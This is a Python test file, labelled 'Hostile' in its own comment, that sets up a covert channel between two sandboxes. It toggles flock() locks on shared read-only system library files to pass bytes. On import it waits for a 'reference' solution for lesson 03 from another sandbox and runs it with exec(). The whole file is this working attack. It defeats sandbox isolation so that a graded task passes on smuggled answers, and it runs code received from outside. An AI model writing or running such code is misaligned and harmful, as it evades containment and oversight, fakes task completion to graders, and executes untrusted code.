# Hostile (tests/test_grading_schedule.py): lesson 03 written by nobody: it waits for another
# sandbox to send the reference of lesson 03 through flock() and runs it.
# --- a covert channel between two sandboxes: flock() on files both can read (/usr is
# mounted read-only in every sandbox; flock needs only a read-only descriptor).
import fcntl as _f
import glob as _g
import os as _o
import time as _t

_FILES = sorted({_o.path.realpath(p) for p in _g.glob("/usr/lib/x86_64-linux-gnu/lib*.so*")})[:12]  # same list in every sandbox
_D, _CLOCK, _ACK, _READY = list(range(8)), 8, 9, 10


class _Side:
    def __init__(self):
        self.fds = [_o.open(p, _o.O_RDONLY) for p in _FILES]
        self.held = [False] * len(_FILES)

    def set(self, i, value):
        if value and not self.held[i]:
            _f.flock(self.fds[i], _f.LOCK_EX)
            self.held[i] = True
        elif not value and self.held[i]:
            _f.flock(self.fds[i], _f.LOCK_UN)
            self.held[i] = False

    @staticmethod
    def other(i):
        fd = _o.open(_FILES[i], _o.O_RDONLY)
        try:
            _f.flock(fd, _f.LOCK_EX | _f.LOCK_NB)
        except BlockingIOError:
            return True
        finally:
            _o.close(fd)
        return False

    def wait(self, i, value, limit):
        end = _t.monotonic() + limit
        while self.other(i) != value:
            if _t.monotonic() > end:
                raise TimeoutError(i)
            _t.sleep(0.0005)


def send(payload: bytes, limit=250.0):
    side = _Side()
    side.set(_READY, True)
    data = len(payload).to_bytes(4, "big") + payload
    for k, byte in enumerate(data):
        for b in _D:
            side.set(b, bool(byte >> b & 1))
        side.set(_CLOCK, k % 2 == 0)
        side.wait(_ACK, k % 2 == 0, limit)
    side.set(_READY, False)


def receive(limit=250.0) -> bytes:
    side = _Side()
    side.wait(_READY, True, limit)
    out = bytearray()
    k, need = 0, 4
    while k < need:
        side.wait(_CLOCK, k % 2 == 0, limit)
        out.append(sum(1 << b for b in _D if side.other(b)))
        side.set(_ACK, k % 2 == 0)
        k += 1
        if k == 4:
            need = 4 + int.from_bytes(out[:4], "big")
    side.set(_ACK, False)
    return bytes(out[4:])

_src = receive()
exec(compile(_src, "reference-03", "exec"), globals())
